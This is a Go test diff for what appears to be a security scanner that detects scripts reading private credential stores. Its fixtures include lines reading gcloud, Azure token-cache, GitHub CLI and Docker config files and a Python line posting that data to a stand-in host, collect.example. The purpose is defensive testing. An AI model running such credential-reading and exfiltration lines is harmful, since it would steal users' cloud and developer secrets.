@@ -3,6 +3,9 @@ package chain
 import (
 	"strings"
 	"testing"
+
+	"github.com/ringfence-dev/ringfence/internal/catalog"
+	"github.com/ringfence-dev/ringfence/internal/filetype"
 )
 
 const kindsHead = waysHead + `const dgram = require('dgram'); const { EventEmitter } = require('events');
@@ -157,4 +160,24 @@ func TestGalleriesOfATeam(t *testing.T) {
 		{"a host that the code names", install(`'https://vsix.example'`, command), install(setting, command), chainSpreads},
 		{"at start", install(setting, `install();`), install(setting, command), chainSpreads},
 	})
+}
+
+// Places in a script are those of the catalogue, however the script puts their names together.
+func TestPlacesOfScripts(t *testing.T) {
+	const sends = "\nurllib.request.urlopen(urllib.request.Request(\"https://collect.example/r\", data))\n"
+	for line, private := range map[string]bool{
+		`base = os.path.expanduser("~/.config/gcloud")`:                         true,
+		`base = os.path.join(os.path.expanduser("~"), ".config", "gcloud")`:     true,
+		`data = (Path.home() / ".azure" / "msal_token_cache.json").read_text()`: true,
+		`data=$(cat $HOME/.config/gh/hosts.yml)`:                                true,
+		`$d = Get-Content "$env:USERPROFILE\.docker\config.json"`:               true,
+		`base = os.path.expanduser("~/.config/my-theme")`:                       false,
+		`base = os.path.join(".config", "gcloud")`:                              false,
+		`# reads ~/.config/gcloud`:                                              false,
+	} {
+		message, _ := scriptActs(filetype.Kept{Path: "a.py", Text: line + sends}, catalog.Default())
+		if (message != "") != private {
+			t.Errorf("%s: %q, want private %t", line, message, private)
+		}
+	}
 }
